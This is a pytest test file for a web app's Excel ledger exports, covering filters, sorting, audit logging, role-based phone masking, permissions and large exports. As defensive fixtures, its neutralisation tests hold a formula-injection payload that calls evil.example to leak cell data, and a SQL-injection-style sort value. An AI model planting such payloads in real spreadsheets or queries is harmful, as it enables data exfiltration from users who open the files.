"""Excel ledgers (台账): contents, filters, masking, formula neutralisation, size (R-13.6)."""
from __future__ import annotations

import datetime as dt
import decimal
import io
import re
from urllib.parse import quote

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from app import ledgers
from app.audit import AuditAction, AuditLog
from app.choices import (
    AssessmentSubject,
    ContactMethod,
    MeetingKind,
    Rating,
    Stage,
    StaffRole,
)
from app.extensions import db
from app.ledgers import reading
from app.ledgers.spec import Record
from app.ledgers.xlsx import cell_value, neutralise
from app.models import (
    Assessment,
    Commission,
    CoordinationMeeting,
    MeetingActionItem,
    Revisit,
)
from app.states import CommissionState as CS
from app.states import ItemState as IS
from tests import factories as f
from tests.role_clients import role_client
from tests.clock import RUN_DAY

HAS_CHINESE = re.compile(r"[\u4e00-\u9fff]")


def sheet_rows(response) -> list[tuple]:
    """The rows of the downloaded workbook's only sheet (header first)."""
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    book = load_workbook(io.BytesIO(response.data), read_only=True)
    assert len(book.sheetnames) == 1
    return list(book.active.iter_rows(values_only=True))


def commission(state: CS = CS.in_progress, **kw) -> Commission:
    """A commission accepted in 2025, taken to ``state`` by the steps: numbered
    JCXB-2025-0001, -0002, ... in the order of acceptance."""
    return f.case(state, on=dt.date(2025, 3, 3), **kw)


def test_headers_chinese_and_rows_of_the_filtered_list(client, app):
    """R-13.6: the commission ledger has Chinese headers and exactly the rows the list shows
    under its active filter (here: state = in progress), in the list's order."""
    with app.app_context():
        for n in range(1, 6):
            commission(CS.in_progress if n % 2 else CS.completed)
        db.session.commit()
    query = "_flt_0_state=in_progress"
    listed = re.findall(r"JCXB-2025-\d{4}",
                        client.get(f"/commissionview/list/?{query}").get_data(as_text=True))
    rows = sheet_rows(client.get(f"/ledger/commissions.xlsx?{query}"))
    header, body = rows[0], rows[1:]
    assert all(HAS_CHINESE.search(h) for h in header), header
    assert header[:4] == ("申请编号", "项目名称", "项目代码", "建设单位")
    assert "状态" in header and "协办员" in header
    state = header.index("状态")
    assert [r[0] for r in body] == list(dict.fromkeys(listed)) == [
        "JCXB-2025-0005", "JCXB-2025-0003", "JCXB-2025-0001"]
    assert {r[state] for r in body} == {"办理中"}
    # without the filter: every commission
    assert len(sheet_rows(client.get("/ledger/commissions.xlsx"))) == 6


def test_sort_of_the_list_applies(client, app):
    """R-13.6: the list's sort arguments carry over; an unknown sort column is ignored."""
    with app.app_context():
        # ids in another order than the numbers: the second one opened is accepted first
        first, second, third = (f.case(CS.pre_review) for _ in range(3))
        for opened in (second, first, third):
            f.advance(opened, CS.accepted, on=dt.date(2025, 3, 3))
        db.session.commit()
        assert first.application_no == "JCXB-2025-0002" and first.id < second.id
    asc = sheet_rows(client.get(
        "/ledger/commissions.xlsx?_oc_CommissionView=application_no&_od_CommissionView=asc"))
    assert [r[0] for r in asc[1:]] == ["JCXB-2025-0001", "JCXB-2025-0002", "JCXB-2025-0003"]
    odd = client.get(
        "/ledger/commissions.xlsx?_oc_CommissionView=remarks);--&_od_CommissionView=asc")
    assert len(sheet_rows(odd)) == 4


def test_export_button_carries_the_list_query(client, app):
    """R-13.6: the list page's export button links to the ledger with the page's filters."""
    html = client.get("/commissionview/list/?_flt_0_state=in_progress").get_data(as_text=True)
    assert 'href="/ledger/commissions.xlsx?_flt_0_state=in_progress"' in html
    for url, key in (("/commissionitemview/list/", "items"),
                     ("/coordinationmeetingview/list/", "meetings"),
                     ("/revisitview/list/", "revisits"),
                     ("/assessmentview/list/", "assessments")):
        assert f'href="/ledger/{key}.xlsx"' in client.get(url).get_data(as_text=True), key
    # lists without a ledger have no button
    assert "/ledger/" not in client.get("/unitview/list/").get_data(as_text=True)


@pytest.mark.date_sensitive
def test_file_name_and_audit_row(client, app):
    """R-13.6, R-14.4: the download is named with the ledger's Chinese title and the date
    (RFC 5987 filename*), and each export leaves an audit row with its filters and size."""
    with app.app_context():
        commission()
        db.session.commit()
    response = client.get("/ledger/commissions.xlsx?_flt_0_state=in_progress")
    assert response.mimetype == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    name = f"委托协办台账_{RUN_DAY:%Y%m%d}.xlsx"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert f"filename*=UTF-8''{quote(name)}" in disposition
    with app.app_context():
        entry = db.session.scalars(sa.select(AuditLog).where(
            AuditLog.action == AuditAction.export)).all()[-1]
        assert entry.object_type == "Commission" and entry.username == "admin"
        assert entry.detail["ledger"] == "commissions" and entry.detail["rows"] == 1
        assert entry.detail["filters"] == {"_flt_0_state": ["in_progress"]}


def test_every_ledger_exports(client, app):
    """R-13.6: commissions, items, meetings, revisits and assessments export with Chinese
    headers, one column per declared column, and their rows."""
    with app.app_context():
        dept = f.department("住建局")
        specialist = f.staff(StaffRole.specialist, dept, name="专办员甲", phone="13512345678")
        coordinator = f.staff(name="协办员甲", phone="13612345678")
        accepted, due = dt.date(2025, 9, 26), dt.date(2025, 10, 10)
        catalogue = f.due_item(accepted, due, Stage.s3, dept=dept, name="建筑工程施工许可")
        c = commission(coordinator=coordinator, items=[catalogue])
        item = c.items[0]
        item.specialist = specialist  # the item screen's
        f.advance_item(item, IS.approved, on=accepted, decided_on=dt.date(2025, 10, 9))
        assert item.due_on == due
        meeting = CoordinationMeeting(kind=MeetingKind.joint, title="联席会议第一次",
                                      held_on=dt.date(2025, 10, 1), place="三楼会议室",
                                      convener=coordinator, issues="施工许可材料",
                                      departments=[dept], attendees=[specialist],
                                      commissions=[c])
        meeting.action_items.append(MeetingActionItem(
            description="补齐材料", owner=specialist, due_on=dt.date(2025, 10, 8)))
        db.session.add(meeting)
        db.session.add(Revisit(commission=c, visited_on=dt.date(2025, 10, 20),
                               method=ContactMethod.phone, person_reached="陈经办",
                               rating=Rating.satisfied))
        db.session.add(Assessment(period_start=dt.date(2025, 7, 1),
                                  period_end=dt.date(2025, 9, 30),
                                  subject=AssessmentSubject.department, department=dept,
                                  commissions_handled=3, on_time_rate=decimal.Decimal("87.5"),
                                  score=decimal.Decimal("92")))
        db.session.commit()
    expect = {
        "commissions": ("JCXB-2025-0001", "协办员甲"),
        "items": ("建筑工程施工许可", "住建局", "专办员甲", "是"),
        "meetings": ("联席会议第一次", "住建局", "专办员甲", "JCXB-2025-0001", 1),
        "revisits": ("JCXB-2025-0001", "陈经办", "满意"),
        "assessments": ("住建局", 3, 87.5, 92),
    }
    for key, values in expect.items():
        rows = sheet_rows(client.get(f"/ledger/{key}.xlsx"))
        assert len(rows) == 2, key
        assert len(rows[0]) == len(ledgers.LEDGERS[key].columns)
        assert all(HAS_CHINESE.search(h) for h in rows[0]), (key, rows[0])
        for value in values:
            assert value in rows[1], (key, value, rows[1])
    item_row = sheet_rows(client.get("/ledger/items.xlsx"))[1]
    assert dt.datetime(2025, 10, 10) in item_row  # dates stay dates
    with app.app_context():
        _same_read_as_columns_and_as_objects()


def _same_read_as_columns_and_as_objects() -> None:
    """Issue 16 item 7: every ledger but the meetings' (to-many columns) is read as plain
    columns, and its cells are the ones its getters give on loaded objects."""
    plain = {key for key, ledger in ledgers.LEDGERS.items() if ledger.paths is not None}
    assert plain == {"commissions", "items", "revisits", "assessments"}
    for key in plain:
        ledger = ledgers.LEDGERS[key]
        statement = sa.select(ledger.model).order_by(ledger.model.id)
        records = list(reading.rows(db.session, ledger, statement))
        assert records and all(type(r) is Record for r in records), key
        objects = db.session.scalars(statement).all()
        assert [[c.get(r) for c in ledger.columns] for r in records] == \
            [[c.get(o) for c in ledger.columns] for o in objects], key


def test_unknown_ledger_and_anonymous(app, client):
    """R-13.6: an unknown ledger answers 404; an anonymous request gets no file."""
    assert client.get("/ledger/nothing.xlsx").status_code == 404
    anonymous = app.test_client().get("/ledger/commissions.xlsx")
    assert anonymous.status_code in (302, 401, 403)
    assert not anonymous.data.startswith(b"PK")


# ---- formula neutralisation -------------------------------------------------------
def test_neutralise_unit():
    """R-13.6: text starting with = + - @ tab or CR becomes inert text; the rest is kept."""
    for text in ("=1+1", "+86 138", "-2", "@SUM(A1)", "\tx", "\rx"):
        assert neutralise(text) == "'" + text
    assert neutralise("江城建设") == "江城建设"
    assert neutralise("a=b") == "a=b"
    assert neutralise("bad\x00char\x07") == "badchar"
    assert cell_value(-3) == -3  # numbers stay numbers
    assert cell_value(decimal.Decimal("-1.5")) == decimal.Decimal("-1.5")


def test_formula_in_a_unit_name_exports_as_text(client, app):
    """R-13.6: a unit named =HYPERLINK(...) (and other formula starts) export as text."""
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'
    with app.app_context():
        owner = f.unit(name=evil)
        owner.handler_name = "@cmd"
        commission(project=f.project(owner, name="+1+2")).remarks = "-SUM(A1:A9)"
        db.session.commit()
    response = client.get("/ledger/commissions.xlsx")
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.data))  # not read-only: cell types visible
    sheet = book.active
    header = [c.value for c in sheet[1]]
    row = {h: c for h, c in zip(header, sheet[2])}
    assert row["建设单位"].value == "'" + evil
    assert row["项目名称"].value == "'+1+2"
    assert row["项目经办人联络方式"].value == "13700137000"
    assert row["项目经办人"].value == "'@cmd"
    assert row["备注"].value == "'-SUM(A1:A9)"
    for cell in sheet[2]:
        assert cell.data_type != "f", cell.value
    assert b"<f>" not in _sheet_xml(response.data)


def _sheet_xml(data: bytes) -> bytes:
    import zipfile

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return b"".join(archive.read(n) for n in archive.namelist() if n.startswith("xl/"))


# ---- every kind of cell (R-13.6, R-14.9; issue 16 item 7) --------------------------------
LONG = "长" * 40_000
#: column → (value, what the cell reads back as; None: no cell)
CELLS = {
    "text": ("江城建设 😀𠀀", "江城建设 😀𠀀"),
    "spaced": (" 前后有空格 ", " 前后有空格 "),
    "markup": ("a&b<c>\r\nd]]>", "a&b<c>\r\nd]]>"),
    "formula": ("=HYPERLINK(\"x\")", "'=HYPERLINK(\"x\")"),
    "tab": ("\t-1", "'\t-1"),
    "illegal": ("bad\x00c\x07\ufffe\uffff\ud800!", "badc!"),
    "long": (LONG, LONG[:32767]),
    "empty": ("", None),
    "none": (None, None),
    "integer": (-3, -3),
    "decimal": (decimal.Decimal("87.50"), 87.5),
    "date": (dt.date(2025, 10, 9), dt.datetime(2025, 10, 9)),
    # Beijing wall-clock time to the minute
    "moment": (dt.datetime(2025, 10, 9, 16, 30, 59, tzinfo=dt.timezone.utc),
               dt.datetime(2025, 10, 10, 0, 30)),
    "enum": (Rating.satisfied, "满意"),
    "yes": (True, "是"),
    "no": (False, "否"),
    "phone": ("13912345678", "139****5678"),
    "odd": (dt.time(12, 30), "12:30:00"),
}
FORMATS = {"date": "yyyy-mm-dd", "moment": "yyyy-mm-dd hh:mm"}


def test_every_kind_of_cell_reads_back_as_openpyxl_writes_it(app):
    """R-13.6, R-14.9: the rows written as text (app/ledgers/sheetxml.py) are byte for byte
    the rows openpyxl's own cells write for the same values, and read back as dates,
    date-times to the minute, enum labels, 是/否, masked phones, neutralised text without
    the characters XML cannot hold; the header keeps its style and the pane stays frozen."""
    from openpyxl import Workbook
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.styles import Font, PatternFill

    from app.domain.validators import mask_phone
    from app.ledgers import xlsx
    from app.ledgers.spec import Column, Ledger, path
    from app.timefmt import EXCEL_TIME_FORMAT

    ledger = Ledger(key="cells", title="单元格", model=Commission, columns=tuple(
        Column(name, path(name), phone=name == "phone") for name in CELLS))
    rows = [Record((name, value) for name, (value, _) in CELLS.items()),
            Record((name, None) for name in CELLS)]
    written = io.BytesIO()
    with app.app_context():
        assert xlsx.write(ledger, rows, written, mask_phone) == 2
        # openpyxl's own cells for the same values, as the writer gave them before
        reference = Workbook(write_only=True)
        sheet = reference.create_sheet()
        header = WriteOnlyCell(sheet, value="header")  # its style comes first, as the ledger's
        header.font, header.fill = Font(bold=True), PatternFill("solid", fgColor="DDEBF7")
        sheet.append([header])
        for row in rows:
            values = []
            for column in ledger.columns:
                value = row[column.get.dotted]
                if column.phone and value:
                    value = mask_phone(value)
                value = xlsx.cell_value(value, "是", "否")
                if isinstance(value, dt.datetime):
                    value = WriteOnlyCell(sheet, value=value)
                    value.number_format = EXCEL_TIME_FORMAT
                values.append(value)
            sheet.append(values)
        expected = io.BytesIO()
        reference.save(expected)

    def data_rows(book: bytes) -> bytes:
        sheet_xml = _sheet_xml(book)
        return sheet_xml[sheet_xml.index(b'<row r="2">'):sheet_xml.index(b"</sheetData>")]

    assert data_rows(written.getvalue()) == data_rows(expected.getvalue())
    sheet = load_workbook(written).active
    assert sheet.freeze_panes == "A2"
    assert [cell.value for cell in sheet[1]] == list(CELLS)
    assert sheet["A1"].font.b and sheet["A1"].fill.fgColor.rgb == "00DDEBF7"
    for cell, (name, (_, shown)) in zip(sheet[2], CELLS.items()):
        assert cell.value == shown, name
        assert cell.data_type != "f", name
        assert cell.number_format == FORMATS.get(name, "General"), name
    assert all(cell.value is None for cell in sheet[3])


# ---- masking per role and row-level access (R-14.2) ------------------------
@pytest.fixture
def two_cases(app):
    """Two commissions of two coordinators; the units' handlers have mobile numbers."""
    with app.app_context():
        mine = f.staff(name="协办员甲", phone="13612345678")
        other = f.staff(name="协办员乙", phone="13787654321")
        commission(coordinator=mine, project=f.project(f.unit(handler_phone="13900001111")))
        commission(coordinator=other, project=f.project(f.unit(handler_phone="13900002222")))
        db.session.commit()
        return {"mine": mine.id, "other": other.id}


def test_masking_per_role(app, two_cases):
    """R-14.5, R-14.2, R-13.6: the coordinator handling the case exports their own
    commission only, with the phone numbers in full; an inspector (督查), who handles no
    case, exports every commission with the personal phone numbers masked."""
    from app import roles

    coordinator = role_client(app, [roles.COORDINATOR], two_cases["mine"])
    rows = sheet_rows(coordinator.get("/ledger/commissions.xlsx"))
    header = rows[0]
    handler, coord = header.index("项目经办人联络方式"), header.index("协办员电话")
    assert [r[0] for r in rows[1:]] == ["JCXB-2025-0001"]
    assert (rows[1][handler], rows[1][coord]) == ("13900001111", "13612345678")

    inspector = role_client(app, [roles.INSPECTOR])
    rows = sheet_rows(inspector.get("/ledger/commissions.xlsx"))
    assert sorted(r[0] for r in rows[1:]) == ["JCXB-2025-0001", "JCXB-2025-0002"]
    assert {(r[handler], r[coord]) for r in rows[1:]} == {
        ("139****1111", "136****5678"), ("139****2222", "137****4321")}


def test_export_needs_the_list_permission(app, two_cases):
    """R-13.6, R-14.1: a user who may not open the list (an auditor) gets no ledger of it."""
    from app import roles

    auditor = role_client(app, [roles.AUDITOR])
    response = auditor.get("/ledger/commissions.xlsx")
    assert response.status_code == 403
    assert not response.data.startswith(b"PK")


# ---- size ---------------------------------------------------------------------------
def test_large_export_streams(client, app, count_queries):
    """R-13.6: 3,000 rows export without error, in a bounded number of statements (rows are
    streamed from one select of the ledger's columns, not one query per row)."""
    with app.app_context():
        coordinator = f.staff()
        projects = [f.project() for _ in range(3)]
        db.session.execute(sa.insert(Commission), [
            {"application_no": f"JCXB-2024-{n:04d}", "project_id": projects[n % 3].id,
             "state": CS.completed, "coordinator_id": coordinator.id,
             "completed_on": dt.date(2024, 12, 1)}
            for n in range(1, 3001)])
        db.session.commit()
    client.get("/commissionview/list/")  # the session's user and roles, kept from here on
    with count_queries() as statements:
        response = client.get("/ledger/commissions.xlsx?_flt_0_state=completed")
    rows = sheet_rows(response)
    assert len(rows) == 3001
    assert rows[1][0] == "JCXB-2024-3000" and rows[-1][0] == "JCXB-2024-0001"
    # issue 16 item 7: the rows are one select of the ledger's columns (no ORM object, no
    # statement per batch); the others count the rows and sign the user in
    assert len(statements) <= 6, statements
    reads = [s for s in statements if "commission.application_no AS c0" in s]
    assert len(reads) == 1 and "commission.pre_review_id" not in reads[0]


def test_no_button_and_no_file_without_the_export_permission(app):
    """R-13.6, R-14.1: a role that may open a list but not export (no LedgerView.can_export)
    sees no export button, and the ledger URL gives it no file."""
    sm = app.appbuilder.sm
    with app.app_context():
        role = sm.find_role(LIST_ONLY_ROLE) or sm.add_role(LIST_ONLY_ROLE)
        for permission, view in (("can_list", "CommissionView"),
                                 ("menu_access", "Commissions")):
            pv = sm.find_permission_view_menu(permission, view)
            if pv not in role.permissions:
                sm.add_permission_role(role, pv)
    reader = role_client(app, [LIST_ONLY_ROLE])
    response = reader.get("/commissionview/list/")
    assert response.status_code == 200
    assert "/ledger/" not in response.get_data(as_text=True)
    response = reader.get("/ledger/commissions.xlsx")
    assert response.status_code in (302, 403) and not response.data.startswith(b"PK")


#: a test role that may list commissions and nothing else (not part of app/roles.py)
LIST_ONLY_ROLE = "仅列表（测试）"


def test_failed_export_is_reported_and_audited(client, app, monkeypatch):
    """R-13.6, R-14.4: an export that breaks off answers with a message on the list page
    (not a 500, no file) and leaves a failed audit row."""
    from app.audit import AuditResult

    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr("app.ledgers.xlsx.write", broken)
    response = client.get("/ledger/revisits.xlsx?_flt_0_rating=satisfied")
    assert response.status_code == 302
    assert response.headers["Location"].endswith("/revisitview/list/?_flt_0_rating=satisfied")
    assert "导出失败" in client.get("/revisitview/list/").get_data(as_text=True)
    with app.app_context():
        entry = db.session.scalars(sa.select(AuditLog).where(
            AuditLog.action == AuditAction.export).order_by(AuditLog.id.desc())).first()
        assert entry.result == AuditResult.failed and entry.detail["ledger"] == "revisits"
